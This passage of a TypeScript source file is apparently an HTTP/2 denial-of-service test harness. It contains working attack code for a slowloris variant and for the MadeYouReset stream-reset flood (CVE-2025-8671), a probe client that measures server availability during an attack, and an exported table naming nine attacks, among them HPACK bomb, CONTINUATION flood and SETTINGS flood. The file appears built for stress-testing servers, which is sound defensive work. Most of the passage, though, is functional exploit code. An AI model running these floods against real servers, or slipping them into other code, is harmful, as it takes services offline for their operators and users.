      // Our SETTINGS ACK would land inside the header block.
      run.error('no SETTINGS from the server within 1 s: connection not used');
      return;
    }
    const n = Math.min(spc, c.client.serverMaxConcurrentStreams);
    const mine: (SlowlorisStream & { c: Conn })[] = [];
    for (let i = 0; i < n && c.client.writable; i++) {
      let id: number;
      if (variant === 'body') id = c.client.request(path, { method: 'POST', endStream: false });
      else {
        id = c.client.allocStreamId();
        c.client.sendHeaderBlock(id, pseudo('GET', path), { endStream: true, endHeaders: false });
      }
      c.streamsOpened++;
      const s = { c, connection: ci, id, how: 'open', bytesSent: 0 };
      mine.push(s);
      streams.push(s);
    }
    const classify = (s: SlowlorisStream & { c: Conn }) => {
      if (s.how !== 'open') return;
      const st = c.client.streamRecord(s.id);
      const g = c.client.goawayInfo;
      if (st?.headersAt !== undefined) {
        // A response while the request is still coming (e.g. 408, 413, or an early 200), maybe then a reset.
        s.how = `response ${c.client.status(s.id) ?? '?'}` + (st.rstCode !== undefined ? ` + rst ${errorCodeName(st.rstCode)}` : '');
        s.atMs = run.ms(st.headersAt);
      } else if (st?.rstCode !== undefined) {
        s.how = `rst ${errorCodeName(st.rstCode)}`;
        s.atMs = run.ms(st.rstAt ?? now());
      } else if (g && g.lastStreamId < s.id) {
        s.how = `goaway ${errorCodeName(g.errorCode)}`;
        s.atMs = run.ms(c.client.goawayTimes[c.client.goaways.length - 1] ?? now());
      } else if (c.client.socketClosed || c.client.socketEnded) {
        s.how = c.client.goaways.length ? `goaway ${errorCodeName(g!.errorCode)}` : 'closed';
        s.atMs = run.ms(c.client.goawayTimes[0] ?? c.client.endedAt ?? c.client.closedAt ?? now());
      }
    };
    while (!run.over) {
      await run.until(c, () => false, Math.min(intervalMs, run.remaining));
      mine.forEach(classify);
      if (run.over || run.dead(c) || mine.every((s) => s.how !== 'open')) break;
      for (const s of mine) {
        if (s.how !== 'open') continue;
        if (variant === 'body') c.client.sendFrame(FrameType.DATA, 0, s.id, one);
        else c.client.sendContinuation(s.id, frag, false);
        s.bytesSent++;
      }
    }
  });
  // A last look after the settle phase: closes that raced the deadline.
  const result = await run.finish({});
  const byHow: Record<string, number> = {};
  const endTimes: number[] = [];
  for (const s of streams) {
    byHow[s.how] = (byHow[s.how] ?? 0) + 1;
    if (s.atMs !== undefined) endTimes.push(s.atMs);
  }
  result.extra = {
    streams: streams.length,
    byHow,
    endedAtMs: endTimes.length ? quantiles(endTimes) : null,
    bytesTrickled: streams.reduce((n, s) => n + s.bytesSent, 0),
    streamRecords: streams.slice(0, MAX_RECORDS).map(({ c: _c, ...s }) => s),
  };
  return result;
}

// ---------------------------------------------------------------------------
// 8. MadeYouReset

export type ResetProvoker = 'window-update-0' | 'data-on-half-closed' | 'oversized-data' | 'window-update-overflow' | 'headers-on-half-closed';

export interface MadeYouResetOptions extends AttackOptions {
  /** Default '/'. */
  path?: string;
  /**
   * The frame that makes the server reset the stream:
   *  'window-update-0': a complete GET, then WINDOW_UPDATE with increment 0 on its stream (PROTOCOL_ERROR);
   *  'data-on-half-closed': a complete GET, then a DATA frame on it (it is half-closed: STREAM_CLOSED);
   *  'oversized-data': a POST with content-length 1 (no END_STREAM), then 2 bytes of DATA with
   *   END_STREAM: more than the declared length (PROTOCOL_ERROR);
   *  'window-update-overflow': a complete GET, then WINDOW_UPDATE 2^31-1 on its stream: the
   *   server's send window passes 2^31-1 (FLOW_CONTROL_ERROR; we advertise a 2^31-1 window);
   *  'headers-on-half-closed': a complete GET, then a second HEADERS (trailers) on it (STREAM_CLOSED).
   * RFC 9113 lets a server treat some of these as connection errors; nghttp2 (in Node and in
   * valk-aio) does for 'window-update-0' and 'data-on-half-closed' (GOAWAY at once).
   * Default 'window-update-0'.
   */
  provoke?: ResetProvoker;
  /** Request + provoking frame pairs per write. Default 50. */
  batch?: number;
  /** Open a new connection when the server closes one. Default false. */
  reconnect?: boolean;
}

/**
 * MadeYouReset (CVE-2025-8671): requests the server starts working on, each
 * immediately followed by a frame that makes the server itself reset the
 * stream, as fast as possible (never more streams in flight than the
 * server's MAX_CONCURRENT_STREAMS), until durationMs or the server closes
 * the connection.
 */
export async function madeYouReset(o: MadeYouResetOptions): Promise<AttackResult> {
  const path = o.path ?? '/';
  const provoke = o.provoke ?? 'window-update-0';
  const batch = o.batch ?? 50;
  const reconnect = o.reconnect ?? false;
  const run = new Run('madeYouReset', o, reconnect ? 10000 : 1, { path, provoke, batch, reconnect });
  const getBlock = pseudo('GET', path);
  const postBlock = pseudo('POST', path, [['content-length', '1']]);
  const trailerBlock = hpackEncodeLiteral([['x-trailer', '1']]);
  const u32 = (v: number) => {
    const b = Buffer.alloc(4);
    b.writeUInt32BE(v >>> 0, 0);
    return b;
  };
  const pair = (id: number): Buffer => {
    switch (provoke) {
      case 'window-update-0':
        return Buffer.concat([headersFrame(id, getBlock, Flag.END_HEADERS | Flag.END_STREAM), encodeFrame(FrameType.WINDOW_UPDATE, 0, id, Buffer.alloc(4))]);
      case 'data-on-half-closed':
        return Buffer.concat([headersFrame(id, getBlock, Flag.END_HEADERS | Flag.END_STREAM), encodeFrame(FrameType.DATA, Flag.END_STREAM, id, Buffer.from('x'))]);
      case 'oversized-data':
        return Buffer.concat([headersFrame(id, postBlock, Flag.END_HEADERS), encodeFrame(FrameType.DATA, Flag.END_STREAM, id, Buffer.from('xx'))]);
      case 'window-update-overflow':
        return Buffer.concat([headersFrame(id, getBlock, Flag.END_HEADERS | Flag.END_STREAM), encodeFrame(FrameType.WINDOW_UPDATE, 0, id, u32(0x7fffffff))]);
      case 'headers-on-half-closed':
        return Buffer.concat([headersFrame(id, getBlock, Flag.END_HEADERS | Flag.END_STREAM), headersFrame(id, trailerBlock, Flag.END_HEADERS | Flag.END_STREAM)]);
      default:
        throw new RangeError(`madeYouReset: unknown provoke '${String(provoke)}'`);
    }
  };
  pair(1); // validates provoke before anything connects
  let requests = 0;
  let capWaits = 0;
  while (!run.over) {
    const c = await run.open({ forgetClosedStreams: true });
    if (!c) {
      if (!reconnect || run.attempts >= run.maxConnections) break;
      await sleep(Math.min(50, run.remaining));
      continue;
    }
    await run.settings(c);
    const cap = Math.max(1, Math.min(c.client.serverMaxConcurrentStreams, 1000));
    while (!run.over && !run.dead(c)) {
      const n = Math.min(batch, cap - inFlight(c));
      if (n <= 0) {
        capWaits++;
        await run.until(c, () => inFlight(c) < cap || c.client.goaways.length > 0);
        continue;
      }
      const parts: Buffer[] = [];
      for (let i = 0; i < n; i++) {
        const id = c.client.allocStreamId();
        if (id > MAX_STREAM_ID) break;
        parts.push(pair(id));
      }
      if (parts.length === 0) break;
      c.streamsOpened += parts.length;
      requests += parts.length;
      if (!(await run.write(c, Buffer.concat(parts), parts.length * 2, -1))) break;
      await tick();
    }
    if (!reconnect) break;
    await run.until(c, () => c.client.socketClosed, Math.min(200, run.remaining));
  }
  const result = await run.finish({ requestsSent: requests, capWaits });
  result.extra.provokingFrames = requests;
  return result;
}

// ---------------------------------------------------------------------------
// The probe: a well-behaved client

export interface ProbeOptions {
  port: number;
  host?: string;
  /** Default '/'. */
  path?: string;
  /** One GET every intervalMs. Default 100. */
  intervalMs?: number;
  /** Requests in flight at most; a tick finding them all busy counts as skipped. Default 1. */
  concurrency?: number;
  /** A request (connect included) not answered within timeoutMs fails. Default 2000. */
  timeoutMs?: number;
}

export interface ProbeResult {
  path: string;
  /** 2xx responses. */
  ok: number;
  /** Everything else: errors, timeouts, non-2xx. */
  failed: number;
  /** Ticks where `concurrency` requests were still in flight (nothing sent). */
  skipped: number;
  statuses: Record<string, number>;
  errors: Record<string, number>;
  /** Sessions opened (1 + reconnects). */
  connects: number;
  /** Latency of the 2xx responses sent on a connected session, ms. */
  latencyMs: { p50: number; p99: number; max: number };
  /** Latency of the 2xx responses that waited for their session's TLS connect (connect included), ms. */
  connectLatencyMs: { p50: number; p99: number; max: number; n: number };
  /** ms from start to the first and last failure. */
  firstFailureMs: number | null;
  lastFailureMs: number | null;
}

export interface Probe {
  stop(): Promise<ProbeResult>;
}

/**
 * GETs of `path` every intervalMs over one Node http2 session (TLS,
 * certificate not verified), reconnecting when the session closes, fails or
 * gets a GOAWAY.
 */
export function startProbe(o: ProbeOptions): Probe {
  const host = o.host ?? '127.0.0.1';
  const path = o.path ?? '/';
  const intervalMs = o.intervalMs ?? 100;
  const concurrency = o.concurrency ?? 1;
  const timeoutMs = o.timeoutMs ?? 2000;
  const t0 = now();
  const res: ProbeResult = {
    path, ok: 0, failed: 0, skipped: 0, statuses: {}, errors: {}, connects: 0,
    latencyMs: { p50: NaN, p99: NaN, max: NaN }, connectLatencyMs: { p50: NaN, p99: NaN, max: NaN, n: 0 },
    firstFailureMs: null, lastFailureMs: null,
  };
  const lat: number[] = [];
  const connectLat: number[] = [];
  let session: http2.ClientHttp2Session | undefined;
  let inflight = 0;
  let stopped = false;
  const pending = new Set<Promise<void>>();

  const fail = (why: string) => {
    res.failed++;
    res.errors[why] = (res.errors[why] ?? 0) + 1;
    const t = Math.round(now() - t0);
    res.firstFailureMs ??= t;
    res.lastFailureMs = t;
  };
  const getSession = (): http2.ClientHttp2Session => {
    if (session && !session.closed && !session.destroyed) return session;
    res.connects++;
    const s = http2.connect(`https://${host}:${o.port}`, { rejectUnauthorized: false });
    s.on('error', () => {});
    const drop = () => {
      if (session === s) session = undefined;
    };
    s.on('close', drop);
    s.on('goaway', () => {
      drop();
      s.close();
    });
    session = s;
    return s;
  };
  const one = () =>
    new Promise<void>((resolve) => {
      const start = now();
      let done = false;
      let req: http2.ClientHttp2Stream | undefined;
      let fresh = false;
      const finish = (status: number | undefined, err?: string) => {
        if (done) return;
        done = true;
        clearTimeout(timer);
        if (status !== undefined) res.statuses[String(status)] = (res.statuses[String(status)] ?? 0) + 1;
        if (err) fail(err);
        else if (status !== undefined && status >= 200 && status < 300) {
          res.ok++;
          (fresh ? connectLat : lat).push(now() - start);
        } else fail(`status ${status}`);
        if (req && !req.closed) req.close(http2.constants.NGHTTP2_CANCEL);
        resolve();
      };
      const timer = setTimeout(() => {
        finish(undefined, 'timeout');
        // A session that lets a request time out is suspect: start over on a new one.
        const s = session;
        session = undefined;
        s?.destroy();
      }, timeoutMs);
      try {
        const s = getSession();
        fresh = s.connecting;
        req = s.request({ ':path': path, ':method': 'GET' });
        let status: number | undefined;
        req.on('response', (h) => (status = Number(h[':status'])));
        req.on('data', () => {});
        req.on('end', () => finish(status));
        req.on('close', () => finish(status, status === undefined ? `closed ${req?.rstCode ?? ''}`.trim() : undefined));
        req.on('error', (e: NodeJS.ErrnoException) => finish(status, e.code ?? e.message));
        req.end();
      } catch (e) {
        finish(undefined, (e as NodeJS.ErrnoException).code ?? (e as Error).message);
      }
    });
  getSession(); // connect now: the first tick finds the session ready
  const timer = setInterval(() => {
    if (stopped) return;
    if (inflight >= concurrency) {
      res.skipped++;
      return;
    }
    inflight++;
    const p = one().finally(() => {
      inflight--;
      pending.delete(p);
    });
    pending.add(p);
  }, intervalMs);
  return {
    async stop() {
      stopped = true;
      clearInterval(timer);
      await Promise.all([...pending]);
      session?.destroy();
      const q = quantiles(lat);
      res.latencyMs = { p50: q.p50, p99: q.p99, max: q.max };
      res.connectLatencyMs = quantiles(connectLat);
      return res;
    },
  };
}

/** The attacks by name (for drivers). */
export const attacks = {
  hpackBomb,
  stuckStreams,
  zeroWindowHeadersFlood,
  continuationFlood,
  settingsFlood,
  pingFlood,
  zeroWindowReader,
  slowloris,
  madeYouReset,
} as const;

export type AttackName = keyof typeof attacks;

export { ErrorCode };
